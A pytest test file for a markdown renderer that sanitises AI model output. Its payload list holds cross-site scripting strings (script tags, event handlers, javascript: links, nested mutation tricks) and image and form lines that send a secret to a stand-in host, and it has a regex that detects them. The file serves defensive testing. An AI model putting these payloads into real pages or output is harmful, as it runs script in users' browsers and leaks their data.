"""Model output rendered as markdown must never carry executable HTML (it is untrusted)."""
from __future__ import annotations

import re

import pytest

from app.services.markdown import MAX_CHARS, render

PAYLOADS = [
    "<script>window.__xss=1</script>",
    "<img src=x onerror=window.__xss=1>",
    "<svg onload=window.__xss=1>",
    "<iframe src=javascript:window.__xss=1></iframe>",
    "<a href=\"javascript:window.__xss=1\">click</a>",
    "[click](javascript:window.__xss=1)",
    "[click](JaVaScRiPt:window.__xss=1)",
    "[click](  javascript:window.__xss=1)",
    "[click](java&#x09;script:window.__xss=1)",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:window.__xss=1)",
    "![x](https://evil.test/leak?secret=abc)",
    "<details open ontoggle=window.__xss=1>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    "```html\n<script>window.__xss=1</script>\n```",
    "`<img src=x onerror=window.__xss=1>`",
    "<style>body{display:none}</style>",
    "<form action=https://evil.test><button>go</button></form>",
    "[a](https://ok.test \"title\" onmouseover=\"window.__xss=1\")",
    "<<script>script>window.__xss=1<</script>/script>",
    "<!-- --><script>window.__xss=1</script>",
    "<object data=javascript:window.__xss=1>",
    "<base href=https://evil.test/>",
    "<meta http-equiv=refresh content=0;url=https://evil.test>",
]
DANGEROUS = re.compile(r"<\s*(script|img|svg|iframe|object|embed|style|form|base|meta|math|details|button|input|link)\b"
                       r"|\son\w+\s*=|javascript:|vbscript:|data:text|style\s*=", re.I)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_survives_as_markup(payload):
    html = str(render(f"Here you go:\n\n{payload}\n\nand inline {payload} too"))
    for tag in re.findall(r"<[^>]+>", html):  # only the markup itself matters, not escaped text
        assert not DANGEROUS.search(tag), (payload, tag, html)
    assert "<script" not in html.lower()


def test_markdown_still_renders():
    html = str(render("# Title\n\n**bold** _it_ ~~gone~~ `code`\n\n- a\n- b\n\n> quote\n\n"
                      "[docs](https://example.test/x) <https://auto.test>\n\n"
                      "| h1 | h2 |\n|:---|---:|\n| 1 | 2 |\n\n```python\nprint('x')\n```"))
    assert "<h1>Title</h1>" in html and "<strong>bold</strong>" in html and "<em>it</em>" in html
    assert "<s>gone</s>" in html and "<code>code</code>" in html and "<li>a</li>" in html
    assert "<blockquote>" in html and "<table>" in html and "<th>h1</th>" in html
    assert '<a href="https://example.test/x" rel="noopener noreferrer nofollow">docs</a>' in html
    assert '<code class="language-python">' in html and 'class="tok-nb">print' in html


def test_images_become_links_so_nothing_loads_by_itself():
    html = str(render("![chart](https://img.test/c.png?q=1)"))
    assert "<img" not in html and 'href="https://img.test/c.png?q=1"' in html and "[image: chart]" in html


def test_raw_html_is_shown_as_text():
    html = str(render("a <b>bold</b> & <i>x</i>"))
    assert "&lt;b&gt;bold&lt;/b&gt;" in html and "&amp;" in html


def test_huge_answers_are_escaped_plain_text():
    html = str(render("<script>" + "x" * MAX_CHARS))
    assert html.startswith('<pre class="md-plain">&lt;script&gt;')


def test_empty():
    assert str(render("")) == "" and str(render(None)) == ""
